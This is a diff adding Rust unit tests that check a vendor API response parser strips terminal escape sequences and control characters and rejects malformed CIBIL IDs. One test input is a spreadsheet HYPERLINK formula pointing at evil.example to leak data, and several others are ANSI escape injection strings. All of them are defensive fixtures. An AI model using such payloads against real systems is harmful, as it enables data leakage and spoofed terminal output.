@@ -5,6 +5,7 @@ use std::time::{Duration, SystemTime};
 use reqwest::header::{HeaderMap, HeaderValue, RETRY_AFTER};
 
 use super::*;
+use crate::api::MESSAGE_LIMIT;
 
 fn no_headers() -> HeaderMap {
     HeaderMap::new()
@@ -79,7 +80,7 @@ fn the_documented_401_aborts_on_credentials() {
         run(401, body),
         Outcome::Abort(Abort {
             kind: AbortKind::Credentials,
-            http_status: 401,
+            http_status: Some(401),
             message: "Invalid RegistrationID or CompanyCode".into()
         })
     );
@@ -200,4 +201,59 @@ fn kept_bodies_lose_their_secrets_and_are_capped() {
         &r.raw[..200]
     );
     assert!(r.raw.len() <= RAW_BODY_LIMIT);
+}
+
+#[test]
+fn the_vendors_words_lose_their_control_characters_and_are_bounded() {
+    let long = "x".repeat(100_000);
+    let body = format!(
+        r#"{{"status":"False","code":"E\u001b[31m7","description":"Invalid \u001b]0;owned\u0007PAN\r\n{long}"}}"#
+    );
+    let Outcome::Rejected(r) = run(200, &body) else { panic!("not rejected") };
+    assert_eq!(r.code.as_deref(), Some("E[31m7"));
+    assert!(r.message.starts_with("Invalid ]0;ownedPAN xxx"), "{}", &r.message[..40]);
+    assert!(r.message.len() <= MESSAGE_LIMIT && r.message.ends_with('…'), "{}", r.message.len());
+    assert!(r.by_vendor);
+    // The kept body escapes them, as JSON does.
+    assert!(!r.raw.chars().any(char::is_control), "{}", &r.raw[..80]);
+    let body = "{\"message\":\"bad\u{7f}\u{9b}31m PAN\"}";
+    let Outcome::Rejected(r) = run(200, body) else { panic!("not rejected") };
+    assert_eq!(r.raw, r#"{"message":"bad\u007f\u009b31m PAN"}"#);
+    assert_eq!(serde_json::from_str::<Value>(&r.raw).unwrap()["message"], "bad\u{7f}\u{9b}31m PAN");
+
+    let success = r#"{"status":"SUCCESS","merchant_trans_id":"M\u0007-1","access_token":"tok\u001b[2J","result":{"cibil_id":"9362678","cibil_status":"Pending\u001b[2J\u202e"}}"#;
+    let Outcome::Registered(r) = run(200, success) else { panic!("not registered") };
+    assert_eq!(r.cibil_status.as_deref(), Some("Pending[2J"));
+    assert_eq!(r.merchant_trans_id.as_deref(), Some("M-1"));
+    assert_eq!(r.access_token, None, "a token with control characters is not a token");
+
+    let body = r#"{"responsecode":401,"message":"Invalid\u001b[8m credentials"}"#;
+    let Outcome::Abort(a) = run(401, body) else { panic!("not an abort") };
+    assert_eq!(a.message, "Invalid[8m credentials");
+}
+
+#[test]
+fn a_cibil_id_that_is_not_digits_is_no_registration() {
+    for (cibil_id, what) in [
+        (r#""=HYPERLINK(\"http://evil.example/?leak\",\"click\")""#, "not all digits"),
+        (r#""93626 78""#, "not all digits"),
+        (r#"9362678.5"#, "not all digits"),
+        (r#""123456789012345678901234567890""#, "30 digits, more than 20"),
+    ] {
+        let body =
+            format!(r#"{{"status":"SUCCESS","result":{{"cibil_id":{cibil_id},"cibil_status":"Pending"}}}}"#);
+        let Outcome::Rejected(r) = run(200, &body) else { panic!("{cibil_id}: not rejected") };
+        assert_eq!(r.code.as_deref(), Some(CIBIL_ID_SHAPE), "{cibil_id}");
+        assert!(!r.by_vendor, "{cibil_id}: the vendor refused nothing");
+        assert!(r.message.contains("cibil_id is not a number") && r.message.contains(what), "{}", r.message);
+        assert!(r.message.contains("AOPay may have registered this customer"), "{}", r.message);
+        assert!(!r.message.contains("HYPERLINK") && !r.message.contains("9362678"), "{}", r.message);
+        // For whoever looks into it, the answer as it came.
+        assert!(r.raw.contains("cibil_id"), "{}", r.raw);
+    }
+    // The shapes the vendor documents still register: a string or a number of digits.
+    for cibil_id in [r#""9362678""#, "9362678", r#""1234567890123""#] {
+        let body = format!(r#"{{"result":{{"cibil_id":{cibil_id}}}}}"#);
+        assert!(matches!(run(200, &body), Outcome::Registered(_)), "{cibil_id}");
+    }
 }
